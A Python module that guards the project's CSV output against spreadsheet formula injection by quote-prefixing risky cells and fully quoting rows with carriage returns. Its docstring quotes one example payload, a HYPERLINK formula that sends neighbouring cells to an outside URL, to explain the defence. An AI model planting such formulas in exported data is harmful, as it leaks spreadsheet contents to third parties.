"""Every CSV the project writes goes through here: a cell that a spreadsheet would take for a
formula is written with a single quote in front (CSV injection, neutralized the OWASP way), and a
cell holding a carriage return is written quoted.

A cell is a formula to Excel, LibreOffice or Google Sheets when it begins with `=`, `+`, `-` or
`@`, or with a tab or a carriage return (which some of them drop before reading the rest). A cell
like `=HYPERLINK("http://x?leak="&B3&C3,"x")` in a file opened there sends its neighbours' cells
away. Such a cell is written as `'=HYPERLINK(…`: the spreadsheet shows it as text, quote hidden,
and a reader of the file sees the quote. Also caught: those characters after leading spaces or
line breaks, which a spreadsheet may trim first.

A plain number (`-123.4`, `+5`, `-1e5`, spaces around it allowed) is left as it is: it is no
formula, and a negative amount stays a readable number. Anything else starting that way is
quoted, `-1+1` and `- 5` included. A cell already quoted starts with `'`, so writing a file read
back from one of these again adds nothing. Values that are not strings (numbers, dates) are left
as they are.

Python's csv writer quotes a field only for the characters of its line terminator: with lines
ending in a line feed alone (as pandas ends them), a carriage return in a cell is written bare, a
spreadsheet (or any CSV reader) ends the row there, and the rest of the cell starts a row of its
own, unquoted. A row holding one is written with every field in double quotes.
"""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Iterable
from typing import Any

import pandas as pd

QUOTE = "'"
_STARTS = frozenset("=+-@\t\r\n ")  # what a cell neutralized() changes may start with: most are let by at once
_FORMULA = re.compile(r"[\t\r]|[ \t\r\n]*[=+@-]")
_NUMBER = re.compile(r"[ \t\r\n]*[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?[ \t\r\n]*")


def neutralized(value: Any) -> Any:
    """The value as it may be written in a CSV cell."""
    if isinstance(value, str) and value[:1] in _STARTS and _FORMULA.match(value) and not _NUMBER.fullmatch(value):
        return QUOTE + value
    return value


def as_written(value: str) -> str:
    """A cell read back from a CSV this module wrote, as it was before neutralized()."""
    if value.startswith(QUOTE) and neutralized(value[1:]) == value:
        return value[1:]
    return value


class Writer:
    """csv.writer whose rows are written neutralized, and whole quoted when a cell holds a
    carriage return its line terminator would not quote."""

    def __init__(self, handle, **options):
        self._writer = csv.writer(handle, **options)
        bare_cr = "\r" not in options.get("lineterminator", "\r\n")
        self._quoted = csv.writer(handle, **{**options, "quoting": csv.QUOTE_ALL}) if bare_cr else self._writer

    def writerow(self, row: Iterable) -> None:
        # neutralized() of each cell; called only where a cell starts as one it changes may (speed)
        cells = [neutralized(cell) if isinstance(cell, str) and cell[:1] in _STARTS else cell for cell in row]
        if any("\r" in cell for cell in cells if isinstance(cell, str)):
            self._quoted.writerow(cells)
        else:
            self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def to_csv(frame: pd.DataFrame, target, header: bool = True) -> None:
    """The frame (not its index) as CSV, lines ending in a line feed, missing values blank,
    into a path (created or replaced) or an open text file (appended to where it is)."""
    if isinstance(target, (str, os.PathLike)):
        with open(target, "w", newline="", encoding="utf-8") as handle:
            to_csv(frame, handle, header)
        return
    writer = Writer(target, lineterminator="\n")
    if header:
        writer.writerow(frame.columns)
    writer.writerows(frame.astype(object).where(frame.notna(), "").itertuples(index=False, name=None))
